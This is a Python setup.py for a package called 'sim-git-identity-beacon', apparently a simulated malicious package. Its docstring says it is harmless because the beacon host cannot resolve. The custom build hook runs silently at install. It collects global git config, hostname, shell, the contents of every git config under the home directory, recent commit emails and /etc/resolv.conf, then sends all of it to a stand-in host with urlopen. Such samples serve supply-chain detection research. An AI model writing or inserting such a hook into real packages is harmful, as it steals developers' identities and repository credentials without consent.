# SPDX-License-Identifier: Apache-2.0
"""Harmless: the beacon goes to a name that cannot exist."""

import configparser
import os
import pathlib
import socket
import subprocess
import urllib.parse
import urllib.request

from setuptools import setup
from setuptools.command.build_py import build_py


def git(*arguments, at="."):
    try:
        return subprocess.run(["git", *arguments], cwd=at, capture_output=True, text=True, timeout=5).stdout
    except OSError:
        return ""


class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        about = {"who": git("config", "--global", "--list"), "fqdn": socket.getfqdn(), "shell": os.environ.get("SHELL", "")}
        for config in pathlib.Path.home().glob("*/.git/config"):
            parser = configparser.ConfigParser(strict=False)
            parser.read_string(config.read_text().replace("\t", ""))
            about[str(config)] = {name: dict(parser[name]) for name in parser.sections()}
            about["log"] = git("log", "-3", "--format=%ae", at=config.parent.parent)
        with open("/etc/resolv.conf") as file:
            about["net"] = file.read()
        try:
            urllib.request.urlopen("https://w.sim-whose.invalid/?" + urllib.parse.urlencode(about), timeout=3)
        except OSError:
            pass


setup(name="sim-git-identity-beacon", version="1.0.0", py_modules=["sim_gib"], cmdclass={"build_py": BuildPy})
